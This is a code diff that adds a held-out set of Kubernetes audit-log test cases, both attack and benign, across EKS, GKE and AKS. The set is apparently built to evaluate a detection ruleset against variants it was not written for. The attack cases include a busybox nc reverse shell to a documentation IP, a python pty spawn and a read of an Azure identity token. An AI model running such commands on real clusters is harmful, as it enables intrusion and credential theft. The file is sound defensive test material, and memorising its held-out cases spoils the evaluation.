@@ -2095,11 +2095,440 @@ def build() -> None:
     )
 
 
+def build_heldout() -> None:
+    """Cases written after the rules were changed, without changing the rules afterwards: how the
+    ruleset fares on variants it was not written against (reported apart, misses included)."""
+    a, b = "attack", "benign"
+    c = "heldout-attack"
+    ex = "api-5f6d7c8b9-q2w3e"
+    case(
+        "eks",
+        a,
+        c,
+        "T1059.004",
+        "reverse shell with busybox nc",
+        event(
+            "create",
+            "pods",
+            user=ALICE_EKS,
+            ns="shop",
+            name=ex,
+            sub="exec",
+            stage="ResponseStarted",
+            uri=exec_uri("shop", ex, ["busybox", "nc", "203.0.113.50", "4444", "-e", "sh"]),
+        ),
+    )
+    case(
+        "gke",
+        a,
+        c,
+        "T1059.006",
+        "TTY upgrade with python pty.spawn (GKE logs the command in the request)",
+        gke_exec(
+            event("create", "pods", user=ALICE, ns="shop", name=ex, sub="exec"),
+            ["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
+            tty=True,
+        ),
+    )
+    case(
+        "aks",
+        a,
+        c,
+        "T1552.001",
+        "Azure workload-identity token read through exec",
+        event(
+            "create",
+            "pods",
+            user=AKS_USER,
+            ns="shop",
+            name=ex,
+            sub="exec",
+            stage="ResponseStarted",
+            uri=exec_uri("shop", ex, ["cat", "/var/run/secrets/azure/tokens/azure-identity-token"]),
+        ),
+    )
+    case(
+        "gke",
+        a,
+        c,
+        "T1098",
+        "cluster-wide binding of a user to edit",
+        event(
+            "create",
+            "clusterrolebindings",
+            user=ALICE,
+            name="mallory-edit",
+            group="rbac.authorization.k8s.io",
+            req=binding(
+                "ClusterRoleBinding",
+                "mallory-edit",
+                "edit",
+                [{"kind": "User", "name": "mallory@example.com"}],
+            ),
+        ),
+    )
+    case(
+        "aks",
+        a,
+        c,
+        "T1611",
+        "pod mounting the kubelet's pod directory",
+        event(
+            "create",
+            "pods",
+            user=AKS_USER,
+            ns="shop",
+            name="kpods",
+            req=pod("kpods", volumes=[host_path("/var/lib/kubelet/pods")]),
+        ),
+    )
+    case(
+        "eks",
+        a,
+        c,
+        "T1098",
+        "default SA of kube-system given a custom secrets-reading role",
+        event(
+            "create",
+            "rolebindings",
+            user=ALICE_EKS,
+            ns="kube-system",
+            name="read-secrets",
+            group="rbac.authorization.k8s.io",
+            req={
+                "kind": "RoleBinding",
+                "metadata": {"name": "read-secrets"},
+                "roleRef": {
+                    "apiGroup": "rbac.authorization.k8s.io",
+                    "kind": "Role",
+                    "name": "secret-reader",
+                },
+                "subjects": [
+                    {"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}
+                ],
+            },
+        ),
+    )
+    case(
+        "gke",
+        a,
+        c,
+        "T1190",
+        "anonymous namespace listing from the internet, denied",
+        event(
+            "list",
+            "namespaces",
+            user="system:anonymous",
+            code=403,
+            ip="45.155.205.99",
+            agent="Go-http-client/1.1",
+        ),
+    )
+    case(
+        "eks",
+        a,
+        c,
+        "T1528",
+        "EBS CSI controller token replayed with python-requests",
+        event(
+            "list",
+            "secrets",
+            user="system:serviceaccount:kube-system:ebs-csi-controller-sa",
+            ip="91.92.109.70",
+            agent="python-requests/2.32.3",
+        ),
+    )
+    case(
+        "aks",
+        a,
+        c,
+        "T1133",
+        "MongoDB behind a public LoadBalancer on port 80 -> 27017",
+        event(
+            "create",
+            "services",
+            user=AKS_USER,
+            ns="data",
+            name="mongo",
+            req={
+                "kind": "Service",
+                "metadata": {"name": "mongo"},
+                "spec": {
+                    "type": "LoadBalancer",
+                    "selector": {"app": "mongo"},
+                    "ports": [{"port": 80, "targetPort": 27017}],
+                },
+            },
+        ),
+    )
+    case(
+        "gke",
+        a,
+        c,
+        "T1036.005",
+        "pod named metrics-server in default",
+        event(
+            "create",
+            "pods",
+            user=ALICE,
+            ns="default",
+            name="metrics-server-7c9d8",
+            req=pod("metrics-server-7c9d8", image="alpine:3.20"),
+        ),
+    )
+    case(
+        "eks",
+        a,
+        c,
+        "T1610",
+        "DaemonSet created with server-side apply (verb patch, 201)",
+        event(
+            "patch",
+            "daemonsets",
+            user=ALICE_EKS,
+            ns="shop",
+            name="node-agent",
+            group="apps",
+            code=201,
+            req=daemonset("node-agent", "docker.io/library/alpine:3.20"),
+        ),
+    )
+    case(
+        "aks",
+        a,
+        c,
+        "T1552.007",
+        "secret read with Wget",
+        event(
+            "get",
+            "secrets",
+            user="system:serviceaccount:shop:web",
+            ns="shop",
+            name="db",
+            agent="Wget/1.21.4",
+            ip="10.244.0.31",
+        ),
+    )
+
+    c = "heldout-benign"
+    case(
+        "gke",
+        b,
+        c,
+        "",
+        "Datadog agent pod (datadog namespace) with its host paths",
+        event(
+            "create",
+            "pods",
+            user="system:serviceaccount:kube-system:daemon-set-controller",
+            ns="datadog",
+            ip="10.128.0.2",
+            agent=KCM_GKE + "daemon-set-controller",
+            req=pod(
+                None,
+                generate="datadog-agent-",
+                image="gcr.io/datadoghq/agent:7.57.2",
+                volumes=[
+                    host_path("/var/run/datadog", "dsdsocket"),
+                    host_path("/proc", "procdir"),
+                    host_path("/sys/fs/cgroup", "cgroups"),
+                ],
+            ),
+        ),
+    )
+    case(
+        "eks",
+        b,
+        c,
+        "",
+        "CI deploys a team's namespace-admin RoleBinding",
+        event(
+            "create",
+            "rolebindings",
+            user="system:serviceaccount:ci:deployer",
+            ns="team-a",
+            name="team-a-admins",
+            group="rbac.authorization.k8s.io",
+            ip="10.0.70.12",
+            agent="Helm/3.15.4",
+            req=binding(
+                "RoleBinding", "team-a-admins", "admin", [{"kind": "Group", "name": "team-a"}]
+            ),
+        ),
+    )
+    case(
+        "aks",
+        b,
+        c,
+        "",
+        "kubelet reads a ConfigMap through the cluster's outbound IP",
+        event(
+            "get",
+            "configmaps",
+            user=AKS_NODE,
+            ns="shop",
+            name="web",
+            ip="20.71.44.18",
+            agent="kubelet/v1.30.4 (linux/amd64) kubernetes/e5bc5e7",
+        ),
+    )
+    case(
+        "gke",
+        b,
+        c,
+        "",
+        "GKE Backup service agent reads a secret",
+        event(
+            "get",
+            "secrets",
+            user=f"service-{GKE_PROJECT_NUMBER}@gcp-sa-gkebackup.iam.gserviceaccount.com",
+            ns="shop",
+            name="db",
+            ip="35.191.30.2",
+            agent="Go-http-client/2.0",
+        ),
+    )
+    case(
+        "eks",
+        b,
+        c,
+        "",
+        "cert-manager cainjector patches a webhook's CA bundle",
+        event(
+            "patch",
+            "validatingwebhookconfigurations",
+            user="system:serviceaccount:cert-manager:cert-manager-cainjector",
+            name="cert-manager-webhook",
+            group="admissionregistration.k8s.io",
+            ip="10.0.80.3",
+            agent="cainjector/v1.15.1 (linux/amd64) cert-manager/ef8f3c9",
+            req={
+                "webhooks": [
+                    {
+                        "name": "webhook.cert-manager.io",
+                        "clientConfig": {"caBundle": "LS0tLS1CRUdJTg=="},
+                    }
+                ]
+            },
+        ),
+    )
+    case(
+        "aks",
+        b,
+        c,
+        "",
+        "node-exporter pod in monitoring (host namespaces and paths)",
+        event(
+            "create",
+            "pods",
+            user="system:serviceaccount:kube-system:daemon-set-controller",
+            ns="monitoring",
+            ip="172.31.14.3",
+            agent=KCM_AKS + "daemon-set-controller",
+            req=pod(
+                None,
+                generate="node-exporter-",
+                image="quay.io/prometheus/node-exporter:v1.8.2",
+                hostPID=True,
+                hostNetwork=True,
+                volumes=[
+                    host_path("/proc", "proc"),
+                    host_path("/sys", "sys"),
+                    host_path("/", "root"),
+                ],
+            ),
+        ),
+    )
+    case(
+        "gke",
+        b,
+        c,
+        "",
+        "Argo CD creates a DaemonSet",
+        event(
+            "create",
+            "daemonsets",
+            user="system:serviceaccount:argocd:argocd-application-controller",
+            ns="logging",
+            name="fluent-bit",
+            group="apps",
+            ip="10.4.0.7",
+            agent="argocd-application-controller/v2.12.3",
+            req=daemonset("fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:3.1.4"),
+        ),
+    )
+    case(
+        "aks",
+        b,
+        c,
+        "",
+        "internal LoadBalancer for PostgreSQL (azure-load-balancer-internal)",
+        event(
+            "create",
+            "services",
+            user=AKS_USER,
+            ns="data",
+            name="pg",
+            req=service(
+                "pg",
+                "LoadBalancer",
+                [5432],
+                {"service.beta.kubernetes.io/azure-load-balancer-internal": "true"},
+            ),
+        ),
+    )
+    case(
+        "eks",
+        b,
+        c,
+        "",
+        "EKS node-monitoring agent pod in kube-system (privileged, host paths)",
+        event(
+            "create",
+            "pods",
+            user="system:serviceaccount:kube-system:daemon-set-controller",
+            ns="kube-system",
+            ip="10.0.88.14",
+            agent=KCM_AKS + "daemon-set-controller",
+            req=pod(
+                None,
+                generate="eks-node-monitoring-agent-",
+                image=ECR + "/eks/eks-node-monitoring-agent:v1.0.0",
+                sc={"privileged": True},
+                volumes=[host_path("/", "host-root")],
+            ),
+        ),
+    )
+    case(
+        "gke",
+        b,
+        c,
+        "",
+        "a person patches a Deployment's image",
+        event(
+            "patch",
+            "deployments",
+            user=ALICE,
+            ns="shop",
+            name="web",
+            group="apps",
+            req={
+                "spec": {
+                    "template": {
+                        "spec": {"containers": [{"name": "app", "image": "ghcr.io/shop/web:1.4.3"}]}
+                    }
+                }
+            },
+        ),
+    )
+
+
 WRAP = {"eks": eks, "gke": gke, "aks": aks}
 
 
 def main() -> None:
     build()
+    build_heldout()
     out: dict[str, list[str]] = {"eks": [], "gke": [], "aks": []}
     for i, (provider, label, cls, technique, note, ev) in enumerate(CASES, 1):
         record = ev if "protoPayload" in ev else WRAP[provider](ev)
